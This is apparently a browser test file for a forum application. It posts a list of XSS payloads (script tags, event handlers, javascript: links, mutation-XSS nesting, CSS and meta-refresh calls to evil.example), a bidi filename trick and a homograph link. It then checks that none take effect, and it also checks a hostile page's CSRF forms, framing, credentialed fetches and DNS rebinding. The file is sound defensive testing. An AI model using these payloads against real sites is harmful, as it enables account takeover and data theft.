// Documents and pages that would like to do something in the reader's name.

import { createServer } from "node:http";
import { must } from "./nodes.mjs";
import { forum } from "./story.mjs";

/** Whatever of this ran would be seen: it sets `hacked`, or asks another place. */
const HACK = "globalThis.hacked=1;document.title='hacked'";
const SCRIPTS = [
  `<script>${HACK}</script>`,
  `<script src="http://evil.example:1/x.js"></script>`,
  `<img src="http://evil.example:1/pixel.png" onerror="${HACK}">`,
  `![picture](http://evil.example:1/pixel.png)`,
  `<svg><script>${HACK}</script><image href="http://evil.example:1/a"/></svg>`,
  `<svg onload="${HACK}"></svg>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="http://evil.example:1/"></object><embed src="http://evil.example:1/">`,
  `<details open ontoggle="${HACK}">x</details>`,
  `<input autofocus onfocus="${HACK}">`,
  `<a href="javascript:${HACK}">click me</a> [and me](javascript:${HACK}) [me](data:text/html,x)`,
  `<style>@import url(http://evil.example:1/x.css); * { background: url(http://evil.example:1/y) }</style>`,
  `<p style="background:url(http://evil.example:1/z);position:fixed;inset:0">over all</p>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example:1/">`,
  `<base href="http://evil.example:1/"><form action="http://evil.example:1/"><button>Post</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HACK}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${HACK}>">`,
  `<!-- --!><img src=x onerror="${HACK}"> -->`,
  `<video><source onerror="${HACK}" src="http://evil.example:1/v"></video>`,
  `\`\`\`"><img src=x onerror=${HACK}>\ncode\n\`\`\``,
  `[ref]: http://evil.example:1/ "onmouseover=${HACK}"\n[ref]`,
];
const BIDI = "Pay\u202etxt.exe\u2066\u2067\u200f end";
const HOMOGRAPH = "[apple](http://\u0430pple.example/)";

/** Scripts, styles, pictures, forms, nesting and marks of direction in documents do nothing. */
export async function documents({ page, strange }, node) {
  const before = strange.length;
  const text = `# Hostile ${BIDI}\n\n${SCRIPTS.join("\n\n")}\n\n${HOMOGRAPH}\n`;
  const address = await forum(page, node.origin, text);
  for (const place of [address, `${node.origin}/`, `${node.origin}/search?q=hostile`, `${node.origin}/activity`]) {
    await page.goto(place);
    await page.waitForLoadState("networkidle").catch(() => undefined);
    const found = await page.evaluate(() => ({
      hacked: "hacked" in globalThis,
      title: document.title,
      scripts: [...document.scripts].map((it) => it.getAttribute("src")),
      foreign: document.querySelectorAll("main :is(img[src^=http], iframe, object, embed, svg, style, base, meta, video, math)").length,
      handlers: [...document.querySelectorAll("*")].filter((it) =>
        it.getAttributeNames().some((name) => name.startsWith("on") || name === "style")).length,
      bodyForms: document.querySelectorAll(".body :is(form, input, button)").length,
      links: [...document.querySelectorAll(".body a")].map((it) => it.getAttribute("href")),
      bidi: /[\u202a-\u202e\u2066-\u2069]/.test(document.documentElement.innerText),
    }));
    must(!found.hacked && !found.title.includes("hacked"), `a script ran at ${place}`);
    must(found.scripts.every((src) => src === "/static/live.js"), `scripts: ${found.scripts}`);
    for (const part of ["foreign", "handlers", "bodyForms"]) {
      must(found[part] === 0, `${found[part]} ${part} at ${place}`);
    }
    must(!found.bidi, `marks of direction are left at ${place}`);
    for (const link of found.links) must(/^\/(out\?|d\/)/.test(link), `a link leads to ${link}`);
  }
  must(strange.length === before, `it asked for ${strange.slice(before)}`);
  await homograph(page, address);
  await nested(page, node.origin);
}

/** A name that looks like another is shown as what it is. */
async function homograph(page, address) {
  await page.goto(address);
  await page.locator(".body a", { hasText: "apple" }).first().click();
  await page.getByText("xn--pple-43d.example").first().waitFor();
}

/** As deep as a document can be nested, it opens at once; what is too large is refused and kept. */
async function nested(page, origin) {
  const deep = (length) => `Deep\n\n${">".repeat(length / 4)} ${"[".repeat(length / 4)}${"*_".repeat(length / 4)}`;
  const address = await forum(page, origin, deep(110_000));
  const begun = performance.now();
  await page.goto(address);
  must(performance.now() - begun < 5_000, "a deeply nested document takes longer than 5 s");
  const large = deep(1_048_576);
  await page.goto(`${origin}/new`);
  await page.getByLabel("Name and description").fill(large);
  await page.getByRole("button", { name: "Start it" }).click();
  await page.getByRole("alert").waitFor();
  const kept = (await page.getByLabel("Name and description").inputValue()).length;
  must(kept === large.length, `of ${large.length} letters ${kept} were kept`);
}

/** A site of somebody else, with a page that tries things at the node. */
async function site(html) {
  const server = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end(html);
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { server, port: server.address().port };
}

/** Pages elsewhere cannot frame the forum, read it, post to it, or point their own name at it. */
export async function pages(browser, { context, page }, node) {
  const { origin } = node;
  const address = `${origin}/new`;
  const html = `<!DOCTYPE html><title>evil</title>
    <form method="post" action="${address}"><input name="text" value="Forged"><input name="do" value="post"><button>Win</button></form>
    <form method="post" action="${address}" enctype="text/plain"><input name="text=Forged&do" value="post"><button>Plain</button></form>
    <iframe src="${origin}/"></iframe><img src="${origin}/static/icon.svg">`;
  const { server, port } = await site(html);
  const evil = await context.newPage();
  try {
    // Another port is another origin, but the same site: its requests carry the cookie.
    for (const place of [`http://127.0.0.1:${port}/`, `http://evil.example:${port}/`]) {
      await evil.goto(place);
      const frame = evil.frames().find((it) => it !== evil.mainFrame());
      must(!(await frame?.content() ?? "").includes("Forums"), `${place} frames the forum`);
      must(await evil.evaluate(() => document.images[0].naturalWidth === 0), `${place} shows a picture`);
      for (const path of ["/", "/api/v1/forums", "/live"]) {
        const told = await evil.evaluate((url) => fetch(url, { credentials: "include" })
          .then((it) => it.text(), () => ""), origin + path);
        must(told === "", `${place} reads ${path}: ${told}`);
      }
      for (const button of ["Win", "Plain"]) {
        await evil.goto(place);
        await evil.getByRole("button", { name: button }).click();
        await evil.getByText(/nothing was changed/i).waitFor();
      }
    }
    await rebound(evil, node);
  } finally {
    server.close();
    await evil.close();
  }
  await page.goto(`${origin}/`);
  must(await page.getByText("Forged").isHidden(), "a page elsewhere wrote a document");
}

/** A name of an attacker that leads to this machine opens nothing. */
async function rebound(evil, { origin }) {
  const answer = await evil.goto(`http://evil.example:${new URL(origin).port}/`);
  must(answer.status() === 421, `by another name the forum answers ${answer.status()}`);
  await evil.getByText("web.hosts").waitFor();
}
